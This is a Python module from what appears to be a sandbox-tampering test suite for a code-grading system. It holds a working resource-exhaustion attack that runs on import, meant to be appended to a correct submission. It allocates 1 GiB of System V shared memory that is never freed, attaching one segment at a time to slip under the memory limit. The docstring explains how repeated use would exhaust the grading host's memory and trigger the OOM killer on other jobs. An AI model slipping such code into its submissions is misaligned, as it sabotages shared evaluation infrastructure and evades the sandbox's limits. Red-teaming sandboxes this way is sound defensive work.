"""[attnkit-tamper] hold_sysv_memory -- family (e): leave memory held by the kernel after the submission.

Append to a correct stage module (attacker: the solution of s11_other_forms). At import it
creates SysV shared-memory segments (ctypes shmget, IPC_PRIVATE, never removed) of 256 MiB each,
1 GiB in all, attaching one at a time, touching every page and detaching it again, so that the
worker's own RLIMIT_AS (which counts only what is mapped) never sees more than 256 MiB. The pages
stay allocated (host "Shmem" in /proc/meminfo) as long as the IPC namespace lives, whoever exits.
The 64 MiB caps on /tmp and /dev/shm do not apply: kernel.shmmax/shmall of a new IPC namespace
are effectively unlimited.

Old design: the warm zygote's IPC namespace lives for the whole grading run, so every such
submission adds its gigabytes until the grading host runs out of memory and the OOM killer hits
someone (a later victim's worker, the grading worker, the host's other jobs). Here it is kept at
1 GiB: it demonstrates that the memory outlives the submission, not the OOM. A fresh IPC namespace
per submission frees it at the end, but during the submission it still is not bounded by the
sandbox's memory limit (only a memory cgroup or shm sysctls in the new namespace would bound it).
"""


def _atk_hold_sysv_memory(total=1 << 30, piece=256 << 20):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmat.restype = ctypes.c_void_p
    libc.shmdt.argtypes = [ctypes.c_void_p]
    failed = ctypes.c_void_p(-1).value
    for _ in range(total // piece):
        shmid = libc.shmget(0, piece, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
        if shmid < 0:
            return
        address = libc.shmat(shmid, None, 0)
        if address in (None, failed):
            return
        ctypes.memset(address, 1, piece)  # fault every page in
        libc.shmdt(address)


_atk_hold_sysv_memory()
